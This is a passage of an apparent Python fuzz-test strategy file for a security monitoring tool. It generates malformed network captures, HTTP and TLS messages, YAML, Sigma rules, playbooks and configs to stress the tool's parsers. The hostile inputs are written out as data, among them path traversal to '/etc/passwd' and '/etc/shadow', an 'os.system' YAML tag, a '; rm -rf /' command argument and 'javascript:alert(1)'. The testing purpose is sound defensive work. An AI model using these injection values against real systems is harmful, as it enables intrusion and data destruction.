                                     st.binary(max_size=30)), max_size=3)),
        versions=draw(st.lists(st.sampled_from([0x0304, 0x0303, 0x0302, 0x0301, 0x0300, 0x0002, 0xFEFD, 0x7F1C]
                                               + _GREASE), max_size=4)),
        groups=draw(st.lists(_U16, max_size=4)), signatures=draw(st.lists(_U16, max_size=4)),
        extra=draw(st.lists(st.tuples(_U16, st.binary(max_size=30)), max_size=3)))
    if sni is not None and draw(st.integers(0, 5)) == 0:  # an SNI of raw bytes that are not text
        name = draw(st.binary(max_size=40))
        hello = client_hello(sni=None, extra=[(0, struct.pack("!HBH", len(name) + 3, 0, len(name)) + name)])
    return hello


_METHODS = st.one_of(st.sampled_from(["GET", "POST", "CONNECT", "OPTIONS", "M-SEARCH", "get", "G\x00T", "X" * 30]),
                     hostile_text(8))
_TARGETS = st.one_of(st.sampled_from(["/", "/index.php?id=1'--", "http://evil.example/a?b", "example.com:443", "*",
                                      "/a%00b", "/%2e%2e/%2e%2e/etc/passwd", "/ünï", "/" + "a" * 40_000]),
                     hostile_text())
_HEADER_VALUES = st.one_of(st.sampled_from(["10", "-1", "²", "١٢", "99999999999999999999", " 5 ", "chunked",
                                            "gzip, chunked", ""]), hostile_text())


@st.composite
def http_messages(draw: st.DrawFn, response: bool = False) -> bytes:
    """An HTTP/1.x request or response head with the headers the parser reads (hostile values), and a body."""
    if response:
        first = (f"{draw(st.sampled_from(['HTTP/1.1', 'HTTP/1.0', 'HTTP/2', 'HTTP/1.x']))} "
                 f"{draw(st.one_of(st.integers(0, 1000).map(str), st.just('²00')))} {draw(hostile_text(10))}")
    else:
        first = (f"{draw(_METHODS)} {draw(_TARGETS)} "
                 f"{draw(st.sampled_from(['HTTP/1.1', 'HTTP/1.0', 'HTTP/1.9', 'HTTP/2.0', '']))}")
    names = ["Host", "User-Agent", "Referer", "Content-Length", "Transfer-Encoding", "Authorization", "Cookie", "X"]
    headers = [f"{draw(st.sampled_from(names + [name.upper() for name in names] + ['Host ']))}:"
               f"{draw(st.sampled_from([' ', '', '  ']))}{draw(_HEADER_VALUES)}"
               for _ in range(draw(st.integers(0, 6)))]
    newline = draw(st.sampled_from(["\r\n", "\r\n", "\n"]))
    head = newline.join([first, *headers]) + newline + newline
    return head.encode("utf-8", "surrogatepass") + draw(st.binary(max_size=64))


ADDRESS_A, ADDRESS_B = "10.0.0.1", "10.0.0.2"


@st.composite
def tcp_frames(draw: st.DrawFn, client: bytes, server: bytes, port: int) -> list[bytes]:
    """A TCP connection carrying ``client`` and ``server`` bytes in segments (with a handshake, or without)."""
    sport = draw(st.integers(1024, 65535))
    frames = []
    if draw(st.booleans()):
        frames += [ether(ipv4(ADDRESS_A, ADDRESS_B, 6, tcp(sport, port, 999, 0x02))),
                   ether(ipv4(ADDRESS_B, ADDRESS_A, 6, tcp(port, sport, 4999, 0x12, ack=1000)))]
    for data, forward, seq in ((client, True, 1000), (server, False, 5000)):
        cuts = sorted({*draw(st.lists(st.integers(0, len(data)), max_size=3)), *range(0, len(data), 8000)})
        for start, end in zip([0, *cuts], [*cuts, len(data)], strict=True):
            if start == end:
                continue
            segment = tcp(sport, port, seq + start, 0x18, data[start:end]) if forward else \
                tcp(port, sport, seq + start, 0x18, data[start:end])
            frames.append(ether(ipv4(ADDRESS_A, ADDRESS_B, 6, segment) if forward
                                else ipv4(ADDRESS_B, ADDRESS_A, 6, segment)))
    if draw(st.booleans()):
        frames.append(ether(ipv4(ADDRESS_A, ADDRESS_B, 6, tcp(sport, port, 1000 + len(client), 0x11))))
    return frames


@st.composite
def frames(draw: st.DrawFn) -> list[bytes]:
    """Link-layer frames of one conversation: DNS over UDP or TCP, HTTP, TLS, ICMP, IPv6, VLAN, ARP."""
    kind = draw(st.sampled_from(["dns", "dns_tcp", "http", "tls", "icmp", "ipv6", "vlan", "arp"]))
    if kind == "dns":
        port = draw(st.sampled_from([53, 5353, 5355]))
        return [ether(ipv4(ADDRESS_A, ADDRESS_B, 17, udp(40000, port, draw(dns_messages()))))
                for _ in range(draw(st.integers(1, 2)))]
    if kind == "dns_tcp":
        message = draw(dns_messages())
        return draw(tcp_frames(struct.pack("!H", len(message)) + message, b"", 53))
    if kind == "http":
        requests = b"".join(draw(st.lists(http_messages(), min_size=1, max_size=2)))
        return draw(tcp_frames(requests, draw(http_messages(response=True)), draw(st.sampled_from([80, 8080, 3128]))))
    if kind == "tls":
        hello = tls_record(draw(client_hellos()), draw(st.sampled_from([0x0301, 0x0303, 0x0200])))
        return draw(tcp_frames(hello, b"\x16\x03\x03\x00\x02\x02\x00", draw(st.sampled_from([443, 8443]))))
    if kind == "icmp":
        return [ether(ipv4(ADDRESS_A, ADDRESS_B, 1, icmp_echo(draw(st.sampled_from([0, 8, 3, 11, 255])), 7, 1)))]
    if kind == "ipv6":
        return [ether(ipv6("2001:db8::1", "2001:db8::2", 17, udp(40000, 53, draw(dns_messages()))), 0x86DD)]
    if kind == "vlan":
        return [vlan_frame(ipv4(ADDRESS_A, ADDRESS_B, 17, udp(40000, 53, draw(dns_messages()))),
                           draw(st.lists(st.integers(0, 4095), min_size=1, max_size=2)))]
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, draw(st.sampled_from([1, 2, 9]))) + bytes(6) \
        + bytes(draw(st.lists(st.integers(0, 255), min_size=4, max_size=4))) + bytes(10)
    return [ether(body, 0x0806)]


@st.composite
def captures(draw: st.DrawFn) -> bytes:
    """A pcap (either byte order, micro or nanoseconds) or pcapng (EPB, SPB, obsolete PB) of several
    conversations, the packets mutated alone and the file after."""
    packets = []
    for conversation in draw(st.lists(frames(), min_size=1, max_size=4)):
        packets.extend(draw(mutated(frame, max_operations=1)) if draw(st.integers(0, 5)) == 0 else frame
                       for frame in conversation)
    stamps = [T0 + index * draw(st.sampled_from([0.001, 0.5, 100.0])) for index in range(len(packets))]
    if draw(st.booleans()):
        endian = draw(st.sampled_from(["<", ">"]))
        nano = draw(st.booleans())
        magic = 0xA1B23C4D if nano else 0xA1B2C3D4
        out = [struct.pack(endian + "IHHiIII", magic, 2, 4, 0, 0, 262144, draw(st.sampled_from([1, 1, 1, 101, 127])))]
        for stamp, packet in zip(stamps, packets, strict=True):
            seconds = int(stamp)
            fraction = round((stamp - seconds) * (1e9 if nano else 1e6))
            out.append(struct.pack(endian + "IIII", seconds, fraction, len(packet), len(packet)) + packet)
        data = b"".join(out)
    else:
        endian = draw(st.sampled_from(["<", ">"]))
        linktype = draw(st.sampled_from([1, 1, 1, 101, 147]))
        blocks = [shb(endian), idb(linktype, draw(st.sampled_from([None, 6, 9, 0x8A])), endian)]
        for stamp, packet in zip(stamps, packets, strict=True):
            block = draw(st.sampled_from(["epb", "epb", "epb", "spb", "pb"]))
            blocks.append(epb(packet, stamp, endian=endian) if block == "epb" else spb(packet, endian) if block == "spb"
                          else pb(packet, stamp, endian=endian))
        data = b"".join(blocks)
    return draw(mutated(data, max_operations=2)) if draw(st.booleans()) else data


# --- YAML documents -----------------------------------------------------------------------------------------

_YAML_TEXT_INSERTS = ["\t", ": ", "- ", "&a ", "*a", "*nowhere", "!!python/object:os.system", "!!binary x", "? ",
                      "{", "[", "'", '"', "|", ">", "%YAML 1.1\n", "---\n", "...\n", "key: value\n", "  ", "\n",
                      "<<: *a\n", "\x00", "\ufeff", "\x85"]


@st.composite
def yaml_text(draw: st.DrawFn, document: Any) -> bytes:
    """A document written as YAML, and (one time in three) damaged as text: lines dropped, duplicated or
    shifted, YAML syntax and hostile strings inserted, invalid UTF-8, cut short."""
    text = yaml.safe_dump(document, allow_unicode=draw(st.booleans()), sort_keys=False, width=200)
    if draw(st.integers(0, 2)):
        return text.encode("utf-8", "surrogatepass")
    lines = text.splitlines(keepends=True)
    for _ in range(draw(st.integers(1, 2))):
        if not lines:
            break
        at = draw(st.integers(0, len(lines) - 1))
        change = draw(st.sampled_from(["drop", "duplicate", "indent", "dedent", "insert"]))
        if change == "drop":
            del lines[at]
        elif change == "duplicate":
            lines.insert(at, lines[at])
        elif change == "indent":
            lines[at] = "  " + lines[at]
        elif change == "dedent":
            lines[at] = lines[at].lstrip(" ")
        else:
            column = draw(st.integers(0, len(lines[at])))
            lines[at] = lines[at][:column] + draw(st.sampled_from(_YAML_TEXT_INSERTS) | hostile_text()) \
                + lines[at][column:]
    data = "".join(lines).encode("utf-8", "surrogatepass")
    return draw(mutated(data, max_operations=1)) if draw(st.integers(0, 3)) == 0 else data


_MODIFIERS = ["", "|contains", "|startswith", "|endswith", "|re", "|re|i", "|cidr", "|base64", "|base64offset|contains",
              "|windash", "|all", "|contains|all", "|gt", "|lte", "|exists", "|expand", "|fieldref", "|cased",
              "|wide|base64", "|hour", "|frobnicate", "|re|m|s", "|contains|re", "|", "||"]
_SIGMA_VALUES = st.one_of(
    st.sampled_from(["root", "*", "?", "a\\*b", "\\", "", "10.0.0.0/8", "::/0", "300.1.1.1/99", "(a+)+$", "[",
                     "(?<=a)b", "a{1,100000}", "%admins%", "whoami", "user", "2", "-1", "null"]),
    st.integers(), st.booleans(), st.none(), hostile_text(),
    st.lists(st.one_of(st.sampled_from(["a", "*x*", "(a|aa)*b"]), st.integers(), hostile_text(8)), max_size=3),
)
_CONDITIONS = st.one_of(
    st.sampled_from(["sel", "sel and not filter", "1 of sel*", "all of them", "sel or", "not", "(sel", "sel)",
                     "sel | count() > 5", "1 of them and all of sel_*", "undefined", "", "sel and sel and sel",
                     "x of sel*", "all of"]),
    st.lists(st.sampled_from(["sel", "filter", "sel and filter"]), min_size=1, max_size=2), hostile_text())


_VALID_MODIFIERS = ["", "|contains", "|startswith", "|endswith", "|contains|all", "|windash", "|cased",
                    "|base64offset|contains"]


@st.composite
def valid_sigma_documents(draw: st.DrawFn) -> Any:
    """A Sigma rule that loads: hostile text in its title, description and the values it looks for."""
    selection = {draw(st.sampled_from(["user", "message", "CommandLine", "src_ip"])) + draw(
        st.sampled_from(_VALID_MODIFIERS)): draw(st.one_of(hostile_text(), st.lists(hostile_text(8), min_size=1,
                                                                                     max_size=3)))
                 for _ in range(draw(st.integers(1, 3)))}
    special = draw(st.sampled_from([{}, {"src_ip|cidr": "10.0.0.0/8"}, {"user|re": "^ad.in$"}, {"pid|gt": 5},
                                    {"tty": None}, {"tty|exists": True}]))
    detection: dict[str, Any] = {"sel": {**selection, **special}}
    condition = "sel"
    if draw(st.booleans()):
        detection["filter"] = {"user": draw(hostile_text())}
        condition = draw(st.sampled_from(["sel and not filter", "1 of sel* and not filter", "sel or filter"]))
    detection["condition"] = condition
    return {
        "title": draw(hostile_text()) or "t", "id": str(draw(st.uuids())), "status": "test",
        "description": draw(hostile_text()), "level": draw(st.sampled_from(["low", "medium", "high", "critical"])),
        "tags": ["attack.t1110"], "logsource": draw(st.sampled_from([{"product": "linux", "service": "sshd"},
                                                                   {"product": "windows",
                                                                    "category": "process_creation"}])),
        "detection": detection,
    }


@st.composite
def broken_sigma_documents(draw: st.DrawFn) -> Any:
    """A Sigma rule (or a correlation rule) with fields of the wrong type, modifiers that do not exist, regexes
    that backtrack, conditions that do not parse."""
    if draw(st.integers(0, 6)) == 0:
        return {
            "title": draw(with_hostile(st.just("many failures"))), "id": str(uuid.UUID(int=draw(st.integers(0, 9)))),
            "correlation": {
                "type": draw(with_hostile(st.sampled_from(["event_count", "value_count", "temporal",
                                                           "temporal_ordered"]))),
                "rules": draw(_odd(st.lists(st.sampled_from(["base", "5f0b7c9e-1111-4222-8333-944455556666", "x"]),
                                            max_size=3))),
                "group-by": draw(_odd(st.lists(st.sampled_from(["user", "src_ip"]), max_size=2))),
                "timespan": draw(with_hostile(st.sampled_from(["5m", "1h", "0s", "99999999d", "m"]))),
                "condition": draw(_odd(st.fixed_dictionaries({draw(st.sampled_from(["gte", "gt", "eq", "range"])):
                                                              st.one_of(st.integers(), hostile_text())}))),
            },
        }
    selection: dict[Any, Any] = {}
    for _ in range(draw(st.integers(0, 3))):
        field = draw(with_hostile(st.sampled_from(["user", "src_ip", "message", "CommandLine", "EventID"])))
        selection[field + draw(st.sampled_from(_MODIFIERS))] = draw(_SIGMA_VALUES)
    detection: dict[str, Any] = {
        "sel": selection if draw(st.integers(0, 5)) else draw(json_values),
        "condition": draw(_CONDITIONS),
    }
    if draw(st.booleans()):
        detection["filter"] = draw(st.one_of(st.dictionaries(st.sampled_from(["src_ip|cidr", "user"]), _SIGMA_VALUES,
                                                             max_size=2), st.lists(st.just({"user": "x"}), max_size=2),
                                             st.just(["keyword", "*wild*"])))
    document: dict[str, Any] = {
        "title": draw(with_hostile(st.just("test rule"))),
        "id": draw(st.one_of(st.uuids().map(str), hostile_text(), json_values)),
        "status": draw(with_hostile(st.sampled_from(["test", "stable", "experimental"]))),
        "level": draw(with_hostile(st.sampled_from(["low", "high", "critical", "informational"]))),
        "tags": draw(_odd(st.lists(with_hostile(st.sampled_from(["attack.t1110", "attack.credential_access",
                                                                 "cve.2021-44228", "nope"])), max_size=3))),
        "date": draw(with_hostile(st.sampled_from(["2026-11-25", "2026/11/25", "2026-13-45"]))),
        "logsource": draw(_odd(st.fixed_dictionaries({"product": with_hostile(st.just("linux")),
                                                      "service": with_hostile(st.just("sshd"))}))),
        "detection": detection if draw(st.integers(0, 8)) else draw(json_values),
    }
    for key in draw(st.lists(st.sampled_from(sorted(document)), max_size=2, unique=True)):
        del document[key]
    return document


sigma_documents = st.one_of(valid_sigma_documents(), valid_sigma_documents(), broken_sigma_documents())

_PLAYBOOK_KINDS = ["manual", "command", "decision", "parallel", "playbook", "loop", None]


_SAFE_TEXT = st.text(st.characters(blacklist_categories=("Cc", "Cs")), min_size=1, max_size=30).filter(str.strip)
_ID_TEXT = st.text("abcdefghijklmnopqrstuvwxyz0123456789_-", min_size=1, max_size=12).map(lambda text: "s" + text)


@st.composite
def valid_playbook_documents(draw: st.DrawFn) -> Any:
    """A playbook that loads: a chain of steps (a decision with its branch among them), hostile text in titles,
    descriptions and command arguments."""
    ids = draw(st.lists(_ID_TEXT, min_size=2, max_size=6, unique=True))
    steps: list[dict[str, Any]] = []
    for step_id, following in zip(ids, [*ids[1:], None], strict=True):
        step: dict[str, Any] = {"id": step_id, "kind": draw(st.sampled_from(["manual", "command"])),
                                "title": draw(st.one_of(_SAFE_TEXT, st.fixed_dictionaries({"de": _SAFE_TEXT,
                                                                                            "en": _SAFE_TEXT})))}
        if step["kind"] == "command":
            step["argv"] = ["/usr/bin/logger", draw(hostile_text()), "{incident.title}"]
        if draw(st.booleans()):
            step["due"] = draw(st.sampled_from(["PT72H", "P2D", "P1W", {"duration": "PT1H", "after": "awareness"}]))
        if draw(st.booleans()):
            step["description"] = draw(_SAFE_TEXT)
        if following:
            step["next"] = following
        steps.append(step)
    if draw(st.booleans()):
        steps[0] = {"id": steps[0]["id"], "kind": "decision", "title": "ask", "when": "answer", "then": "branch",
                    **({"next": steps[0]["next"]} if "next" in steps[0] else {})}
        steps.append({"id": "branch", "kind": "manual", "title": draw(_SAFE_TEXT)})
    return {"id": draw(_ID_TEXT), "title": draw(_SAFE_TEXT), "version": "1.0", "date": "2026-11-25",
            "triggers": {"tags": [draw(_SAFE_TEXT)]}, "steps": steps}


@st.composite
def broken_playbook_documents(draw: st.DrawFn) -> Any:
    """A playbook: steps of every kind whose targets may be missing, shared or cyclic, dues that are not
    durations, conditions on fields that do not exist, references in the wrong form."""
    ids = draw(st.lists(st.one_of(st.sampled_from(["triage", "contain", "notify", "close", "a", "b"]), hostile_text(8)),
                        min_size=1, max_size=6, unique=True))
    target = st.one_of(st.sampled_from(ids), st.none(), hostile_text(8))
    steps = []
    for step_id in ids:
        kind = draw(st.sampled_from(_PLAYBOOK_KINDS))
        step: dict[str, Any] = {"id": step_id, "kind": kind,
                                "title": draw(st.one_of(hostile_text(), st.fixed_dictionaries(
                                    {"de": hostile_text(), "en": hostile_text()}), json_values))}
        optional = {
            "next": target, "owner": _odd(hostile_text()),
            "due": st.one_of(st.sampled_from(["PT72H", "P2D", "P1W", "P1DT12H", "P1Y", "PT", "P", "P9999999D",
                                              "PT" + "9" * 5000 + "H", "PT1.5H"]),
                             st.fixed_dictionaries({"duration": st.sampled_from(["PT1H", "x"]),
                                                    "after": _odd(st.sampled_from(["detection", "awareness", "x"]))}),
                             json_values),
            "references": _odd(st.fixed_dictionaries({"gdpr": _odd(st.lists(st.sampled_from(["Art. 33(1)", "33"]))),
                                                      "bsi": _odd(st.just(["DER.2.1.A3", "X"]))})),
            "description": _odd(hostile_text()),
        }
        if kind == "command":
            optional.update(argv=_odd(st.lists(st.sampled_from(["/usr/bin/logger", "{incident.title}",
                                                                "{incident.nope}", "--", "; rm -rf /"]), max_size=3)),
                            timeout=_odd(st.integers(-1, 100_000)))
        elif kind == "decision":
            optional.update(when=st.one_of(st.just("answer"), st.fixed_dictionaries(
                {"field": _odd(st.sampled_from(["severity", "category", "nope"])),
                 draw(st.sampled_from(["equals", "in", "not_in", "not_equals", "like"])): json_values})),
                then=target, **{"else": target})
        elif kind == "parallel":
            optional.update(branches=_odd(st.lists(target, max_size=3)))
        elif kind == "playbook":
            optional.update(playbook=_odd(st.sampled_from(["breach", "Nope!", "phishing"])))
        for key, values in optional.items():
            if draw(st.booleans()):
                step[key] = draw(values)
        if draw(st.integers(0, 8)) == 0:
            step[draw(hostile_text(8))] = draw(json_values)
        steps.append(step if draw(st.integers(0, 10)) else draw(json_values))
    document: dict[str, Any] = {
        "id": draw(with_hostile(st.sampled_from(["ransomware", "Bad Id", "x" * 65]))),
        "title": draw(st.one_of(hostile_text(), st.fixed_dictionaries({"de": hostile_text(), "en": hostile_text(),
                                                                        "fr": st.just("x")}))),
        "version": draw(_odd(st.sampled_from(["1.0", "2"]))),
        "date": draw(_odd(st.one_of(st.dates().map(str), st.dates(), st.just("2026-02-30")))),
        "triggers": draw(_odd(st.fixed_dictionaries({"tags": _odd(st.lists(hostile_text(8), max_size=2)),
                                                     "rules": _odd(st.lists(st.just("yara:*"), max_size=1))}))),
        "steps": steps if draw(st.integers(0, 8)) else draw(json_values),
    }
    if draw(st.booleans()):
        document["start"] = draw(st.one_of(target, json_values))
    for key in draw(st.lists(st.sampled_from(sorted(document)), max_size=1, unique=True)):
        del document[key]
    return document


playbook_documents = st.one_of(valid_playbook_documents(), broken_playbook_documents())

_ZONES = st.one_of(st.sampled_from(["Europe/Berlin", "UTC", "Europe", "Europe/", "../../etc/passwd", "/etc/localtime",
                                    "Nowhere/City", "a" * 300, "Europe/Berlin/..", ".", "posixrules"]),
                   hostile_text(10))
_SIZES = st.one_of(st.sampled_from(["64M", "1G", "65536", "-1", "1X", "9" * 5000 + "K", "²K"]), st.integers(),
                   json_values)
_DURATIONS = st.one_of(st.sampled_from(["90d", "12h", "2w", "0d", "99999999999w", "9" * 20 + "d", "1y", "-1d", "²d"]),
                       st.integers(), json_values)


def _config_value(draw: st.DrawFn, usual: st.SearchStrategy[Any]) -> Any:
    return draw(st.one_of(usual, usual, usual, json_values))


@st.composite
def valid_config_documents(draw: st.DrawFn) -> Any:
    """A config that loads, with text of any kind where any text will do."""
    paths = st.one_of(st.sampled_from(["/var/log/auth.log", "logs/*.log", "~/x", "../x/y.log"]), _SAFE_TEXT)
    document: dict[str, Any] = {
        "organisation": {"actor": draw(_SAFE_TEXT), "nis2": "important",
                         "timezone": draw(st.sampled_from(["Europe/Berlin", "UTC", "America/New_York"]))},
        "sources": {"logs": draw(st.lists(st.one_of(paths, st.fixed_dictionaries({"path": paths, "format": st.just(
            "syslog"), "year": st.integers(1970, 9999)})), min_size=1, max_size=3))},
        "threshold": draw(st.sampled_from(["low", "high", "critical"])),
        "retention": {"events": draw(st.sampled_from(["90d", "12h", "2w", "1s"]))},
        "notifications": {"syslog": {"tag": draw(_SAFE_TEXT)},
                          "webhook": {"url": "https://chat.example/h", "headers": {"X-Source": draw(_SAFE_TEXT)}}},
    }
    for key in draw(st.lists(st.sampled_from(["organisation", "threshold", "retention", "notifications"]),
                             unique=True)):
        del document[key]
    return document


@st.composite
def broken_config_documents(draw: st.DrawFn) -> Any:
    """A ``seccenter scan`` config: every section, values of the wrong type, unknown keys, odd zones, sizes,
    durations, addresses and headers."""
    paths = st.one_of(st.sampled_from(["/var/log/auth.log", "logs/*.log", "~/x", "bundled", "../../etc/shadow", ""]),
                      hostile_text(12))
    document: dict[str, Any] = {
        "database": _config_value(draw, paths),
        "organisation": _config_value(draw, st.fixed_dictionaries({
            "actor": _odd(hostile_text()), "nis2": _odd(st.sampled_from(["essential", "important", "none", "x"])),
            "timezone": _ZONES})),
        "sources": _config_value(draw, st.fixed_dictionaries({
            "logs": _odd(st.lists(st.one_of(paths, st.fixed_dictionaries({
                "path": _odd(paths), "format": _odd(st.sampled_from(["syslog", "access", "pcapng", "nope"])),
                "timezone": _ZONES, "year": _odd(st.integers(-1, 100_000))})), max_size=3)),
            "pcaps": _odd(st.lists(paths, max_size=2)),
            "interface": _odd(st.fixed_dictionaries({"name": _odd(hostile_text()),
                                                     "seconds": _odd(st.one_of(st.integers(), st.floats())),
                                                     "filter": _odd(hostile_text())})),
            "yara": _odd(st.lists(st.fixed_dictionaries({"paths": _odd(st.lists(paths, max_size=2)),
                                                         "rules": _odd(st.lists(paths, max_size=2)),
                                                         "exclude": _odd(st.lists(hostile_text(), max_size=2)),
                                                         "max_size": _SIZES, "timeout": _odd(st.integers())}),
                                  max_size=2)),
            "ioc": _odd(st.lists(paths, max_size=2))})),
        "rules": _config_value(draw, st.fixed_dictionaries({
            "sigma": _odd(st.lists(paths, max_size=2)), "yara": _odd(st.lists(paths, max_size=2)),
            "placeholders": _odd(paths), "payload_scan": _odd(st.booleans()), "payload_limit": _SIZES})),
        "threshold": _config_value(draw, st.sampled_from(["high", "critical", "hihg", "informational"])),
        "notifications": _config_value(draw, st.fixed_dictionaries({
            "syslog": _odd(st.one_of(st.booleans(), st.fixed_dictionaries({
                "address": _odd(paths), "facility": _odd(st.sampled_from(["local0", "auth", "kern"])),
                "tag": _odd(hostile_text())}))),
            "smtp": _odd(st.fixed_dictionaries({
                "host": _odd(hostile_text()), "port": _odd(st.integers(-1, 70000)), "starttls": _odd(st.booleans()),
                "user": _odd(hostile_text()), "password_file": _odd(paths),
                "password_env": _odd(st.sampled_from(["SMTP_PASSWORD", "A-B", "²", ""])),
                "from": _odd(st.sampled_from(["csc@stadt.example", "no-at", "a@b <c>"])),
                "to": _odd(st.lists(st.sampled_from(["x@y.example", "bad"]), max_size=2)),
                "timeout": _odd(st.floats())})),
            "webhook": _odd(st.fixed_dictionaries({
                "url": _odd(st.sampled_from(["https://chat.example/h", "ftp://x", "javascript:alert(1)"])),
                "headers": _odd(st.dictionaries(hostile_text(8), _odd(hostile_text()), max_size=2)),
                "timeout": _odd(st.integers())}))})),
        "retention": _config_value(draw, st.fixed_dictionaries({"events": _DURATIONS, "alerts": _DURATIONS,
                                                                "quarantine": _DURATIONS})),
        "pseudonymisation": _config_value(draw, st.fixed_dictionaries({"key_file": _odd(paths)})),
    }
    for key in draw(st.lists(st.sampled_from(sorted(document)), max_size=4, unique=True)):
        del document[key]
    if draw(st.integers(0, 6)) == 0:
        document[draw(st.sampled_from(["sorces", "threshhold", "x"]))] = draw(json_values)
    return document


config_documents = st.one_of(valid_config_documents(), broken_config_documents())


# --- checks ---------------------------------------------------------------------------------------------


def check_event(event: Event) -> None:
    """What the store and the rules rely on: a UTC time, text keys, fields SQLite and JSON take, raw text
    that encodes."""
    assert event.time.utcoffset() == timedelta(0)
    assert all(isinstance(name, str) for name in event.fields)
    json.loads(encode_json(event.fields))
    if isinstance(event.raw, str):
        event.raw.encode("utf-8")
    event.time.isoformat()
